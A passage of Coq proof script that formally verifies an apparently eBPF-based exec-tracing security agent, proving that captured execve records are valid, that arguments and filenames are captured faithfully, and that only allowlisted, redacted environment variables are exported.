  Z.lor CAPTURE_EUID (Z.lor CAPTURE_COMM (Z.lor CAPTURE_PPID (Z.lor CAPTURE_NAMESPACE_ID
    (Z.lor CAPTURE_CONTAINER_ID CAPTURE_TIMESTAMP)))).
Definition record_kind (e : ExecEvent) :=
  (ee_event_type e, ee_flags e, ee_struct_size e, ee_enforcement_action e, ee_pid e, ee_tgid e,
   Z.ldiff (ee_capture_status e) TASK_FAULTS).

Lemma kind_or_status bit e :
  Z.ldiff bit TASK_FAULTS = 0 → record_kind (or_capture_status bit e) = record_kind e.
Proof.
  intros H. unfold record_kind. simpl. f_equal. apply Z.bits_inj'. intros n Hn.
  apply (f_equal (λ z, Z.testbit z n)) in H. rewrite Z.bits_0, Z.ldiff_spec in H.
  rewrite !Z.ldiff_spec, Z.lor_spec. destruct (Z.testbit (ee_capture_status e) n), (Z.testbit bit n);
    simpl in *; by rewrite ?H.
Qed.

Lemma mark_comm_kind e : record_kind (mark_comm_unknown e) = record_kind e.
Proof. transitivity (record_kind (or_capture_status CAPTURE_COMM e)); [done|by apply kind_or_status]. Qed.
Lemma mark_container_kind e : record_kind (mark_container_unknown e) = record_kind e.
Proof. transitivity (record_kind (or_capture_status CAPTURE_CONTAINER_ID e)); [done|by apply kind_or_status]. Qed.

Lemma capture_credentials_kind e : record_kind (capture_credentials k e) = record_kind e.
Proof. unfold capture_credentials. destruct (_ ≫= _); [done|]. by rewrite kind_or_status. Qed.
Lemma capture_comm_kind e : record_kind (capture_comm k e) = record_kind e.
Proof.
  unfold capture_comm. destruct (get_current_comm _ _). case_bool_decide; [by rewrite mark_comm_kind|done].
Qed.
Lemma capture_ppid_kind e : record_kind (capture_ppid k e) = record_kind e.
Proof. unfold capture_ppid. destruct (_ ≫= _); [done|]. by apply kind_or_status. Qed.
Lemma capture_namespace_kind e : record_kind (capture_namespace_id k e) = record_kind e.
Proof. unfold capture_namespace_id. destruct (_ ≫= _); [done|]. by apply kind_or_status. Qed.
Lemma capture_container_kind e : record_kind (capture_container_id k e) = record_kind e.
Proof.
  unfold capture_container_id. destruct (_ ≫= _); [|apply mark_container_kind].
  destruct (probe_read_kernel_str _ _ _). case_bool_decide; [by rewrite mark_container_kind|done].
Qed.

Lemma capture_task_kind fl :
  record_kind (capture_task k fl) =
  (EXEC_EVENT_TYPE_EXECVE, fl, EXEC_EVENT_STRUCT_SIZE, ENFORCEMENT_ALLOWED,
   as_uint 32 (Z.shiftr (get_current_pid_tgid k) 32), as_uint 32 (get_current_pid_tgid k), 0).
Proof.
  unfold capture_task. set (e0 := capture_pid_tgid k _).
  assert (record_kind e0 = (EXEC_EVENT_TYPE_EXECVE, fl, EXEC_EVENT_STRUCT_SIZE, ENFORCEMENT_ALLOWED,
   as_uint 32 (Z.shiftr (get_current_pid_tgid k) 32), as_uint 32 (get_current_pid_tgid k), 0)) as H0 by done.
  clearbody e0.
  assert (∀ t e, record_kind (set_timestamp_ns t e) = record_kind e) as Ht by done.
  case_bool_decide; rewrite ?kind_or_status, Ht, capture_container_kind, capture_namespace_kind,
    capture_ppid_kind, capture_comm_kind, capture_credentials_kind; done.
Qed.

Lemma capture_filename_kind fp e e0 : capture_filename k fp e = Some e0 → record_kind e0 = record_kind e.
Proof.
  unfold capture_filename. case_bool_decide; [done|]. destruct (probe_read_user_str _ _ _ _).
  case_bool_decide; [done|]. by intros [= <-].
Qed.
Lemma mark_path_kind fl e :
  ee_event_type (mark_path_from_fd fl e) = ee_event_type e ∧
  ee_struct_size (mark_path_from_fd fl e) = ee_struct_size e.
Proof. unfold mark_path_from_fd. by destruct (_ && _). Qed.

(** The record is typed and valid, and its strings are the captured ones. *)
Lemma exec_record_inv fp ap ep fl e :
  uint 8 fl → exec_record k fp ap ep fl = Some e →
  ∃ e0, capture_filename k fp (capture_task k fl) = Some e0 ∧ event_typed e0 ∧
    event_typed e ∧ is_valid e = true ∧
    head_of e = head_of (mark_path_from_fd fl e0) ∧
    argv_of e = argv_of (capture_argv k ap (mark_path_from_fd fl e0)) ∧
    slot_texts e = foldl env_put no_slots (env_read k ep) ∧
    ee_env_len e = Z.of_nat (length (filter (λ t, t ≠ []) (slot_texts e))).
Proof.
  intros Hfl. unfold exec_record. intros (e0 & H0 & [= <-])%bind_Some. exists e0. split; [done|].
  assert (event_typed e0) as He0 by (eapply capture_filename_typed; [done|by apply capture_task_typed|done]).
  pose proof (mark_path_typed fl _ He0) as He1. set (e1 := mark_path_from_fd fl e0) in *.
  pose proof (capture_argv_typed k Hk ap _ He1) as He2. pose proof (capture_argv_head k ap e1) as Hh2.
  set (e2 := capture_argv k ap e1) in *. destruct (capture_envp_texts ep e2 He2) as (He3 & Ht3 & Hn3).
  destruct (capture_envp_only k ep e2) as [Hh3 Ha3]. set (e3 := capture_envp k ep e2) in *.
  unfold strings_only in Hh2. rewrite Hh2 in Hh3. clearbody e3. split; [done|].
  split; [by apply typed_set_schema_version|]. split.
  - assert (ee_event_type e1 = EXEC_EVENT_TYPE_EXECVE ∧ ee_struct_size e1 = EXEC_EVENT_STRUCT_SIZE) as [Ht Hs].
    { unfold e1. destruct (mark_path_kind fl e0) as [-> ->]. apply capture_filename_kind in H0.
      rewrite capture_task_kind in H0. unfold record_kind in H0. by injection H0. }
    unfold head_of in Hh3. injection Hh3. intros.
    unfold is_valid. cbn. rewrite !bool_decide_eq_true_2; [done|congruence..].
  - split_and!; done.
Qed.
End record.

(** ** Which environment text can leave the agent *)

(** A slot is empty or holds an entry of the name it stands for. *)
Definition slots_named (slots : list bytes) : Prop :=
  ∀ i t, slots !! i = Some t → t = [] ∨
    ∃ c, env_class t = Some c ∧ (c = i ∨ (c = 8%nat ∧ i = 7%nat)).

Lemma slots_named_insert slots i t c :
  slots_named slots → env_class t = Some c → (c = i ∨ (c = 8%nat ∧ i = 7%nat)) →
  slots_named (<[i := t]> slots).
Proof.
  intros Hs Hc Hi j u [(<- & <- & _)|[_ Hj]]%list_lookup_insert_Some; [right; eauto|by apply Hs].
Qed.

Lemma env_put_named slots t : slots_named slots → slots_named (env_put slots t).
Proof.
  intros Hs. unfold env_put. destruct (env_class t) as [c|] eqn:E; [|done].
  do 8 (destruct c as [|c]; [by eapply slots_named_insert; eauto|]).
  destruct c as [|c]; [|by eapply slots_named_insert; eauto].
  destruct (is_empty _); [|done]. eapply slots_named_insert; eauto.
Qed.

Lemma env_fold_named texts : slots_named (foldl env_put no_slots texts).
Proof.
  assert (slots_named no_slots) as H0 by (intros i t [-> _]%lookup_replicate_1; by left).
  revert H0. generalize no_slots. induction texts as [|t ts IH]; intros slots Hs; [done|].
  simpl. by apply IH, env_put_named.
Qed.

Lemma env_class_name t c :
  env_class t = Some c → ∃ n, ENV_VALUE_ALLOWLIST !! c = Some n ∧ env_entry_name t = n.
Proof.
  unfold env_class. intros ([j n] & (Hj & [r ->] & _)%list_find_Some & ->)%fmap_Some. exists n.
  split; [done|]. unfold env_entry_name. rewrite <- app_assoc. simpl. rewrite split_once_byte; [done|].
  unfold ENV_VALUE_ALLOWLIST in Hj. clear r.
  do 9 (destruct j as [|j]; [injection Hj as <-; apply (bool_decide_eq_false_1 (_ ∈ _)); vm_compute; reflexivity|]).
  done.
Qed.

Lemma env_class_allowlisted t c : env_class t = Some c → env_string_is_allowlisted t = true.
Proof.
  intros (n & Hn & He)%env_class_name. unfold env_string_is_allowlisted. rewrite He.
  unfold env_name_is_allowlisted. apply existsb_exists. exists n. split.
  - apply list_elem_of_In. by eapply list_elem_of_lookup_2.
  - by apply bool_decide_eq_true.
Qed.

Lemma redact_empty slot : EnvCapture.slot_text slot = [] → redact_env_slot slot = (slot, false).
Proof. intros H. unfold redact_env_slot. fold (EnvCapture.slot_text slot). by rewrite H. Qed.

(** C22: of the environment of a traced execution only allowlisted variables leave the
    agent. Whatever the helpers return within their types, the text exported for a record
    the program writes is a list of words, each an entry whose name is on the allowlist and
    is that of a captured slot; and where the captured slot is valid UTF-8 the exported
    value has no secret prefix left. For a slot that is not valid UTF-8, a character cut at
    its end included, the value is exported as captured. *)
Theorem env_export_allowlisted k fp ap ep fl e :
  kernel_ok k → uint 8 fl → exec_record k fp ap ep fl = Some e →
  let t := exec_event_to_security_telemetry e in
  format_env_slots (se_env t) (se_env_len t) = join_words (env_words e) ∧
  Forall (λ w, ∃ slot entry, w = from_utf8_lossy entry ∧ slot ∈ slot_texts e ∧
    env_string_is_allowlisted entry = true ∧ env_entry_name entry = env_entry_name slot ∧
    (utf8_valid slot = true → ∀ v, snd <$> split_once entry [61] = Some v → value_needs_redact v = false))
    (env_words e).
Proof.
  intros Hk Hfl Hr. destruct (exec_record_inv k Hk _ _ _ _ _ Hfl Hr) as (_ & _ & _ & He & _ & _ & _ & Ht & _).
  split.
  { destruct (env_field_words e He) as (len & env' & red & Hf & H1 & _).
    unfold exec_event_to_security_telemetry. rewrite Hf. by destruct (argv_field e). }
  unfold env_words. apply Forall_map, Forall_forall. intros w [Hne Hw]%list_elem_of_filter.
  apply list_elem_of_fmap in Hw as (j & -> & [_ Hj]%elem_of_seq). simpl in Hj.
  assert (j < MAX_ENV_CAPTURE)%nat as Hj8 by lia.
  destruct (typed_arr_field e 24 256 (ee_env e) He eq_refl) as [Hel _].
  pose proof (length_env_slot _ _ Hel Hj8) as Hsl. pose proof (lookup_slot_texts e j Hj8) as Hlk.
  set (slot := env_slot (ee_env e) j) in *. exists (EnvCapture.slot_text slot), (redacted_text (ee_env e) j).
  split; [done|]. split; [by eapply list_elem_of_lookup_2|].
  pose proof (redact_env_slot_spec slot Hsl) as Hs. unfold redacted_text in *. fold slot in Hne |- *.
  assert (EnvCapture.slot_text slot ≠ []) as Hnt.
  { intros H0. rewrite (redact_empty _ H0) in Hne. by apply Hne. }
  destruct (redact_env_slot slot) as [slot' red]. destruct Hs as (_ & Hname & _ & _ & _ & Hval).
  unfold slot_name in Hname. change (cstr_bytes slot') with (EnvCapture.slot_text slot').
  pose proof Hlk as Hn. rewrite Ht in Hn.
  destruct (env_fold_named _ _ _ Hn) as [?|(c & Hc & _)]; [done|].
  split_and!; [|exact Hname|done].
  apply env_class_allowlisted in Hc. unfold env_string_is_allowlisted in *.
  by transitivity (env_name_is_allowlisted (env_entry_name (EnvCapture.slot_text slot))); [f_equal|].
Qed.

(** ** Executions whose memory does not change

    The caller's strings as the helpers find them: a NULL-terminated array of pointers to
    C strings, each copied up to the size of the buffer and terminated. *)
Definition reads_string (k : KernelEnv) (st : site) (p : Z) (s : bytes) : Prop :=
  p ≠ 0 ∧ 0 ∉ s ∧
  ∀ dst, Forall is_byte dst → dst ≠ [] →
    let r := probe_read_user_str k st p dst in
    r.1 = Z.min (Z.of_nat (length s) + 1) (Z.of_nat (length dst)) ∧
    take (Z.to_nat (r.1 - 1)) r.2 = take (length dst - 1) s.

Definition user_strings (k : KernelEnv) (ptr str : nat → site) (base : Z) (strs : list bytes) : Prop :=
  base ≠ 0 ∧
  (∀ i s, strs !! i = Some s →
     ∃ p, probe_read_user k (ptr i) (nth_ptr base i) = Some p ∧ reads_string k (str i) p s) ∧
  probe_read_user k (ptr (length strs)) (nth_ptr base (length strs)) = Some 0.

Section stable.
Context (k : KernelEnv) (Hk : kernel_ok k).

Lemma read_text st p s dst :
  reads_string k st p s → Forall is_byte dst → dst ≠ [] →
  let r := probe_read_user_str k st p dst in
  0 < r.1 ∧ length r.2 = length dst ∧ Forall is_byte r.2 ∧
  r.1 = Z.min (Z.of_nat (length s) + 1) (Z.of_nat (length dst)) ∧
  cstr_bytes r.2 = take (length dst - 1) s.
Proof.
  intros (_ & _ & H) Hd Hne. destruct (H dst Hd Hne) as [H1 H2]. cbv zeta.
  destruct (ko_user_str k Hk st p dst Hd) as (Hl & Hb & Hpos).
  assert (0 < length dst)%nat by (destruct dst; simpl; [done|lia]).
  split_and!; try done; [lia|]. destruct Hpos as [_ Hpos]; [lia|].
  unfold cstr_bytes. by rewrite Hpos, H2.
Qed.

(** The scan reads the first sixteen entries, each cut at 31 bytes. *)
Lemma env_texts_stable envp envs n i probe :
  user_strings k AtEnvPtr AtEnvStr envp envs → env_buffer probe → (i ≤ length envs)%nat →
  env_texts k envp n i probe = map (take 31) (take n (drop i envs)).
Proof.
  intros (_ & Hs & Hz). revert i probe. induction n as [|n IH]; intros i probe Hp Hi; cbn [env_texts]; [done|].
  destruct (envs !! i) as [s|] eqn:E.
  - destruct (Hs i s E) as (p & -> & Hr). destruct Hp as [Hpl Hpb].
    destruct (read_text _ _ _ probe Hr Hpb) as (H1 & H2 & H3 & _ & H5); [by intros ->|].
    rewrite bool_decide_eq_false_2 by apply Hr. destruct (probe_read_user_str _ _ _ _) as [ret buf].
    simpl in *. rewrite bool_decide_eq_false_2 by lia. rewrite (drop_S _ _ _ E). cbn [take map app].
    rewrite IH; [|split; [by rewrite H2|done]|apply lookup_lt_Some in E; lia].
    f_equal. change (EnvCapture.slot_text buf) with (cstr_bytes buf). by rewrite H5, Hpl.
  - apply lookup_ge_None in E. assert (i = length envs) as -> by lia. rewrite Hz.
    by rewrite bool_decide_eq_true_2, drop_ge, take_nil by done.
Qed.

Lemma env_read_stable envp envs :
  user_strings k AtEnvPtr AtEnvStr envp envs →
  env_read k envp = map (take 31) (take MAX_ENV_SCAN envs).
Proof.
  intros Hu. unfold env_read. rewrite bool_decide_eq_false_2 by apply Hu.
  rewrite (env_texts_stable envp envs) by (done || apply ko_stack, Hk || lia). done.
Qed.

(** After [i] arguments of [args]: their slots, their truncation, the status. *)
Record argv_filled (args : list bytes) (i : nat) (e : ExecEvent) : Prop := mkArgvFilled {
  af_typed : event_typed e;
  af_slot j a : (j < i)%nat → args !! j = Some a → cstr_bytes (argv_slot (ee_argv e) j) = take 31 a;
  af_mask : ee_argv_trunc_mask e ≠ 0 ↔ Exists (λ a, 31 ≤ length a)%nat (take i args);
  af_status : field_unknown e CAPTURE_ARGV = bool_decide (Exists (λ a, 31 ≤ length a)%nat (take i args));
  af_flags : ee_argv_flags e = 0
}.

Lemma field_unknown_or b e : b ≠ 0 → field_unknown (or_capture_status b e) b = true.
Proof.
  intros Hb. unfold field_unknown. simpl. 
  assert (Z.land (Z.lor (ee_capture_status e) b) b = b) as ->; [|by rewrite bool_decide_eq_false_2].
  apply Z.bits_inj'. intros n _. rewrite Z.land_spec, Z.lor_spec.
  by destruct (Z.testbit (ee_capture_status e) n), (Z.testbit b n).
Qed.

Lemma shifted_bit i : (i < 8)%nat → as_uint 8 (Z.shiftl 1 (Z.of_nat i)) ≠ 0.
Proof. intros. do 8 (destruct i as [|i]; [done|]). lia. Qed.

Lemma argv_filled_step args i a e ret buf :
  (i < MAX_ARGS_CAPTURE)%nat → args !! i = Some a → argv_filled args i e →
  length buf = MAX_ARG_STR_LEN → Forall is_byte buf →
  ret = Z.min (Z.of_nat (length a) + 1) 32 → cstr_bytes buf = take 31 a →
  let e := store_argv_slot i buf e in
  argv_filled args (S i)
    (if bool_decide (Z.of_nat MAX_ARG_STR_LEN ≤ ret)
     then or_capture_status CAPTURE_ARGV (or_argv_trunc_mask (as_uint 8 (Z.shiftl 1 (Z.of_nat i))) e)
     else e).
Proof.
  intros Hi Ha [Ht Hslot Hmask Hst Hfl] Hl Hb Hret Hc. cbv zeta. unfold MAX_ARG_STR_LEN in *.
  pose proof (store_argv_typed i buf e Hi Hl Hb Ht) as Ht1.
  destruct (typed_arr_field e 18 256 (ee_argv e) Ht eq_refl) as [Hal _].
  assert (∀ j b, (j < S i)%nat → args !! j = Some b →
    cstr_bytes (argv_slot (ee_argv (store_argv_slot i buf e)) j) = take 31 b) as Hslot1.
  { intros j b Hj Hjb. change (ee_argv (store_argv_slot i buf e)) with (write_at (ee_argv e) (i * MAX_ARG_STR_LEN) buf).
    rewrite (argv_slot_write (ee_argv e) buf i j Hal Hi Hl). destruct (decide (i = j)) as [<-|Hij].
    - rewrite bool_decide_eq_true_2 by done. rewrite Ha in Hjb. by injection Hjb as <-.
    - rewrite bool_decide_eq_false_2 by done. apply Hslot; [lia|done]. }
  assert (ee_argv_trunc_mask (store_argv_slot i buf e) = ee_argv_trunc_mask e ∧
          field_unknown (store_argv_slot i buf e) CAPTURE_ARGV = field_unknown e CAPTURE_ARGV ∧
          ee_argv_flags (store_argv_slot i buf e) = 0) as (M1 & S1 & F1) by done.
  set (e1 := store_argv_slot i buf e) in *. clearbody e1.
  assert (∀ P : bytes → Prop, Exists P (take (S i) args) ↔ Exists P (take i args) ∨ P a) as HE.
  { intros P. rewrite (take_S_r _ _ _ Ha), Exists_app, Exists_cons, Exists_nil. tauto. }
  destruct (decide (Z.of_nat 32 ≤ ret)) as [Hr|Hr].
  - rewrite (bool_decide_eq_true_2 (Z.of_nat 32 ≤ ret)) by done.
    assert (31 ≤ length a)%nat as Hlong by lia. constructor.
    + apply typed_or_status, typed_or_argv_mask; [done|by apply as_uint_range|done].
    + exact Hslot1.
    + rewrite HE. split; [by right|]. intros _. simpl. intros [_ H0]%Z.lor_eq_0_iff.
      by apply (shifted_bit i).
    + rewrite field_unknown_or by done. symmetry. apply bool_decide_eq_true. rewrite HE. by right.
    + exact F1.
  - rewrite (bool_decide_eq_false_2 (Z.of_nat 32 ≤ ret)) by done.
    assert (¬ 31 ≤ length a)%nat as Hshort by lia. constructor; [done|done| | |done].
    + rewrite HE, M1. tauto.
    + rewrite S1, Hst. apply bool_decide_ext. rewrite HE. tauto.
Qed.

Lemma argv_loop_stable argv args n i e :
  user_strings k AtArgvPtr AtArgvStr argv args → (i ≤ length args)%nat → (i + n = MAX_ARGS_CAPTURE)%nat →
  argv_filled args i e →
  let '(count, e') := argv_loop k argv n i (Z.of_nat i) e in
  count = Z.of_nat (Nat.min (length args) MAX_ARGS_CAPTURE) ∧
  argv_filled args (Nat.min (length args) MAX_ARGS_CAPTURE) e'.
Proof.
  intros (Hb & Hs & Hz). revert i e. induction n as [|n IH]; intros i e Hi Hn He; cbn [argv_loop].
  { rewrite Nat.add_0_r in Hn. subst i. by rewrite Nat.min_r by lia. }
  destruct (args !! i) as [a|] eqn:E.
  - destruct (Hs i a E) as (p & -> & Hr). rewrite bool_decide_eq_false_2 by apply Hr.
    destruct (argv_read_ok k Hk e i p (af_typed _ _ _ He) ltac:(lia)) as [_ Hsl].
    destruct (typed_arr_field e 18 256 (ee_argv e) (af_typed _ _ _ He) eq_refl) as [_ Hab].
    destruct (read_text _ _ _ (argv_slot (ee_argv e) i) Hr) as (H1 & H2 & H3 & H4 & H5).
    { by apply Forall_slice. } { intros H0. by rewrite H0 in Hsl. }
    destruct (probe_read_user_str _ _ _ _) as [ret buf]. cbn [fst snd] in *. rewrite Hsl in *.
    rewrite bool_decide_eq_false_2 by lia. cbv zeta. replace (Z.of_nat i + 1) with (Z.of_nat (S i)) by lia.
    apply IH; [apply lookup_lt_Some in E; lia|lia|].
    eapply argv_filled_step; eauto. lia.
  - apply lookup_ge_None in E. assert (i = length args) as -> by lia. rewrite Hz.
    rewrite bool_decide_eq_true_2 by done. by rewrite Nat.min_l by lia.
Qed.
End stable.

(** ** The command line of an execution *)
Definition cmdline_of (args : list bytes) : bytes :=
  join_words (map from_utf8_lossy (filter (λ w, w ≠ []) (map (take 31) (take MAX_ARGS_CAPTURE args)))).
(** Something is missing from the captured arguments: more than eight were passed, or one
    of the first eight is longer than the 31 bytes a slot holds. *)
Definition args_cut (args : list bytes) : Prop :=
  (MAX_ARGS_CAPTURE < length args)%nat ∨ Exists (λ a, 31 < length a)%nat (take MAX_ARGS_CAPTURE args).
(** What is not proven complete: an argument that just fills its slot as well. *)
Definition args_unproven (args : list bytes) : Prop :=
  (MAX_ARGS_CAPTURE < length args)%nat ∨ Exists (λ a, 31 ≤ length a)%nat (take MAX_ARGS_CAPTURE args).

#[export] Instance args_unproven_dec args : Decision (args_unproven args).
Proof. unfold args_unproven. apply _. Defined.

Lemma cut_unproven args : args_cut args → args_unproven args.
Proof. intros [?|H]; [by left|right]. eapply Exists_impl; [exact H|]. cbn. lia. Qed.

Lemma field_unknown_argc bit e :
  field_unknown (or_argv_flags bit (or_capture_status CAPTURE_ARGV e)) CAPTURE_ARGV = true.
Proof. by apply (field_unknown_or CAPTURE_ARGV e). Qed.

Section cmdline.
Context (k : KernelEnv) (Hk : kernel_ok k).

Lemma reset_argv_filled args e :
  event_typed e → field_unknown e CAPTURE_ARGV = false → argv_filled args 0 (reset_argv e).
Proof.
  intros He Hu. constructor; [|lia| | |done].
  - unfold reset_argv.
    apply typed_set_args_count, typed_set_argv_flags, typed_set_argv_trunc_mask, typed_set_argv_len, typed_set_argv;
      [lia..|done|apply Forall_byte_zeroed|done].
  - rewrite take_0, Exists_nil. split; [|done]. intros H. by apply H.
  - rewrite take_0, bool_decide_eq_false_2 by (by intros ?%Exists_nil). exact Hu.
Qed.

(** The argument fields for a caller whose array is [args]. *)
Lemma capture_argv_stable argv args e :
  user_strings k AtArgvPtr AtArgvStr argv args → event_typed e → field_unknown e CAPTURE_ARGV = false →
  let e' := capture_argv k argv e in
  let n := Nat.min (length args) MAX_ARGS_CAPTURE in
  ee_args_count e' = Z.of_nat n ∧ ee_argv_len e' = Z.of_nat n ∧
  (∀ j a, (j < n)%nat → args !! j = Some a → cstr_bytes (argv_slot (ee_argv e') j) = take 31 a) ∧
  argv_truncated_of e' = bool_decide (args_unproven args).
Proof.
  intros Hu He Hst. unfold capture_argv. pose proof (reset_argv_filled args e He Hst) as H0.
  cbv zeta. generalize dependent (reset_argv e). clear e He Hst. intros e H0.
  rewrite bool_decide_eq_false_2 by apply Hu.
  pose proof (argv_loop_stable k Hk argv args MAX_ARGS_CAPTURE 0 e Hu ltac:(lia) ltac:(done) H0) as H1.
  change (Z.of_nat 0) with 0 in H1. destruct (argv_loop _ _ _ _ _ _) as [count e1]. destruct H1 as [-> [Ht Hs Hm Hf Hz]].
  set (n := Nat.min (length args) MAX_ARGS_CAPTURE) in *.
  assert (take n args = take MAX_ARGS_CAPTURE args) as Htake by apply take_min_length. rewrite Htake in *.
  set (e2 := set_argv_len _ _).
  assert (ee_args_count e2 = Z.of_nat n ∧ ee_argv_len e2 = Z.of_nat n ∧ ee_argv e2 = ee_argv e1 ∧
    ee_argv_trunc_mask e2 = ee_argv_trunc_mask e1 ∧ ee_argv_flags e2 = 0 ∧
    field_unknown e2 CAPTURE_ARGV = field_unknown e1 CAPTURE_ARGV) as (A1 & A2 & A3 & A4 & A5 & A6).
  { split_and!; try done. apply as_uint_small. unfold n, MAX_ARGS_CAPTURE. lia. }
  clearbody e2. rewrite <- A3 in Hs. rewrite <- A4 in Hm. rewrite <- A6 in Hf. clear A3 A4 A6 H0 e1 Ht Hz.
  assert ((length args ≤ 8)%nat → argv_truncated_of e2 = bool_decide (args_unproven args)) as Hcut.
  { intros H8. unfold argv_truncated_of, status_bit. rewrite A5, Hf. change (Z.land 0 _) with 0.
    apply eq_bool_prop_intro. rewrite !orb_True, !Is_true_true, bool_decide_eq_true, negb_true_iff,
      bool_decide_eq_false, bool_decide_eq_true.
    unfold args_unproven, MAX_ARGS_CAPTURE in *. rewrite Hm. simpl. intuition (lia || done). }
  destruct Hu as (_ & Hp & Hend). destruct (decide (length args < 8)%nat) as [Hlt|Hge].
  { rewrite bool_decide_eq_false_2 by (unfold n, MAX_ARGS_CAPTURE; lia). split_and!; try done. apply Hcut. lia. }
  rewrite bool_decide_eq_true_2 by (unfold n, MAX_ARGS_CAPTURE; lia).
  destruct (decide (length args = 8%nat)) as [Heq|Hgt].
  { rewrite Heq in Hend. change MAX_ARGS_CAPTURE with 8%nat. rewrite Hend, bool_decide_eq_true_2 by done.
    split_and!; try done. apply Hcut. lia. }
  destruct (lookup_lt_is_Some_2 args 8) as [a Ha]; [lia|]. destruct (Hp 8%nat a Ha) as (p & Hr & Hne & _).
  change MAX_ARGS_CAPTURE with 8%nat. rewrite Hr, bool_decide_eq_false_2 by done. split_and!; try done.
  unfold argv_truncated_of at 1. rewrite field_unknown_argc. rewrite (bool_decide_eq_true_2 (args_unproven args)) by (left; unfold MAX_ARGS_CAPTURE; lia).
  by rewrite orb_true_r.
Qed.
End cmdline.

(** ** From the system call to the agent's event *)

(** A status whose bits are all in [F] has none outside it. *)
Lemma ldiff_no_bit s F bit : Z.ldiff s F = 0 → Z.land bit F = 0 → Z.land s bit = 0.
Proof.
  intros H1 H2. apply Z.bits_inj'. intros n _.
  apply (f_equal (λ z, Z.testbit z n)) in H1, H2. rewrite Z.bits_0, Z.ldiff_spec in H1.
  rewrite Z.bits_0, Z.land_spec in *.
  by destruct (Z.testbit s n), (Z.testbit bit n), (Z.testbit F n).
Qed.
(** A bit of a mask is known from the masked status. *)
Lemma masked_bit s s' M bit : Z.land s M = Z.land s' M → Z.land bit M = bit → Z.land s bit = Z.land s' bit.
Proof. intros H <-. by rewrite !(Z.land_comm bit), !Z.land_assoc, H. Qed.

(** The two programs by their tracepoint. *)
Section program.
Context {R : Type} `{RingBuf ExecEvent R}.
Definition exec_program (at_ : bool) (k : KernelEnv) : CpuMaps → R → CpuMaps * R :=
  if at_ then nm_execveat k else nm_proc_events k.
End program.
Definition path_arg (at_ : bool) (k : KernelEnv) : Z := arg k (if at_ then 1 else 0).
Definition argv_arg (at_ : bool) (k : KernelEnv) : Z := arg k (if at_ then 2 else 1).
Definition envp_arg (at_ : bool) (k : KernelEnv) : Z := arg k (if at_ then 3 else 2).
Definition syscall_flags (at_ : bool) : Z := if at_ then EXEC_FLAG_SYSCALL_EXECVEAT else 0.

Lemma exec_program_cases {R} `{RingBuf ExecEvent R} at_ k m (ring : R) :
  exec_program at_ k m ring =
  emit_exec_event k (path_arg at_ k) (argv_arg at_ k) (envp_arg at_ k) (syscall_flags at_) m ring.
Proof. by destruct at_. Qed.

Section delivered.
Context (k : KernelEnv) (Hk : kernel_ok k) (at_ : bool) (path : bytes) (args envs : list bytes).
Context (Hpath : reads_string k AtFilename (path_arg at_ k) path) (Hne : at_ = true → path ≠ []).
Context (Hargs : user_strings k AtArgvPtr AtArgvStr (argv_arg at_ k) args).
Context (Henvs : user_strings k AtEnvPtr AtEnvStr (envp_arg at_ k) envs).

Lemma filename_stable :
  ∃ buf, capture_filename k (path_arg at_ k) (capture_task k (syscall_flags at_)) =
      Some (set_filename buf (capture_task k (syscall_flags at_))) ∧
    cstr_bytes buf = take 255 path ∧
    mark_path_from_fd (syscall_flags at_) (set_filename buf (capture_task k (syscall_flags at_)))
    = set_filename buf (capture_task k (syscall_flags at_)).
Proof.
  destruct (read_text k Hk _ _ _ (zeroed MAX_FILENAME_LEN) Hpath (Forall_byte_zeroed _)) as (H1 & H2 & _ & _ & H5);
    [done|]. unfold capture_filename. rewrite bool_decide_eq_false_2 by apply Hpath.
  destruct (probe_read_user_str _ _ _ _) as [ret buf]. cbn [fst snd] in *.
  rewrite bool_decide_eq_false_2 by lia. exists buf. rewrite length_zeroed in *. split_and!; [done|exact H5|].
  unfold mark_path_from_fd. cbn [ee_filename set_filename]. destruct at_; [|done].
  replace (char_at buf 0 0) with false; [by rewrite andb_false_r|]. symmetry.
  apply bool_decide_eq_false. intros H0. destruct buf as [|c buf]; [done|]. injection H0 as ->.
  destruct path as [|x p]; [by apply Hne|]. done.
Qed.

Lemma exec_record_stable :
  ∃ e, exec_record k (path_arg at_ k) (argv_arg at_ k) (envp_arg at_ k) (syscall_flags at_) = Some e ∧
    event_typed e ∧ is_valid e = true ∧ is_execveat e = at_ ∧
    ee_enforcement_action e = ENFORCEMENT_ALLOWED ∧
    ee_pid e = as_uint 32 (Z.shiftr (get_current_pid_tgid k) 32) ∧
    field_unknown e CAPTURE_TGID = false ∧ field_unknown e CAPTURE_FILENAME = false ∧
    cstr_bytes (ee_filename e) = take 255 path ∧
    ee_argv_len e = Z.of_nat (Nat.min (length args) MAX_ARGS_CAPTURE) ∧
    (∀ j a, (j < Nat.min (length args) MAX_ARGS_CAPTURE)%nat → args !! j = Some a →
       cstr_bytes (argv_slot (ee_argv e) j) = take 31 a) ∧
    argv_truncated_of e = bool_decide (args_unproven args) ∧
    slot_texts e = foldl env_put no_slots (map (take 31) (take MAX_ENV_SCAN envs)) ∧
    ee_env_len e = Z.of_nat (length (filter (λ t, t ≠ []) (slot_texts e))).
Proof.
  destruct filename_stable as (buf & Hf & Hc & Hm).
  assert (uint 8 (syscall_flags at_)) as Hfl by (by destruct at_).
  destruct (exec_record k (path_arg at_ k) _ _ _) as [e|] eqn:E.
  2:{ unfold exec_record in E. by rewrite Hf in E. }
  exists e. split; [done|].
  destruct (exec_record_inv k Hk _ _ _ _ _ Hfl E) as (e0 & H0 & He0 & He & Hv & Hh & Ha & Hs & Hn).
  rewrite Hf in H0. injection H0 as <-. rewrite Hm in Hh, Ha.
  pose proof (capture_task_kind k (syscall_flags at_)) as Hkd.
  set (t := capture_task k _) in *. unfold record_kind in Hkd. injection Hkd as K1 K2 K3 K4 K5 K6 K7.
  assert (∀ bit, Z.land bit TASK_FAULTS = 0 → Z.land (ee_capture_status t) bit = 0) as Hbit
    by (intros bit; by apply ldiff_no_bit).
  destruct (capture_argv_stable k Hk _ args (set_filename buf t) Hargs He0) as (A1 & A2 & A3 & A4).
  { unfold field_unknown. change (ee_capture_status (set_filename buf t)) with (ee_capture_status t).
    by rewrite Hbit. }
  unfold head_of in Hh. injection Hh as B1 B2 B3 B4 B5 B6 B7 B8 B9 B10 B11 B12 B13 B14 B15 B16.
  unfold argv_of in Ha. injection Ha as C1 C2 C3 C4 C5 C6.
  assert (∀ bit, Z.land bit TASK_BITS = bit → Z.land bit TASK_FAULTS = 0 → field_unknown e bit = false) as Hu.
  { intros bit H1 H2. unfold field_unknown. rewrite (masked_bit _ _ _ _ B16 H1).
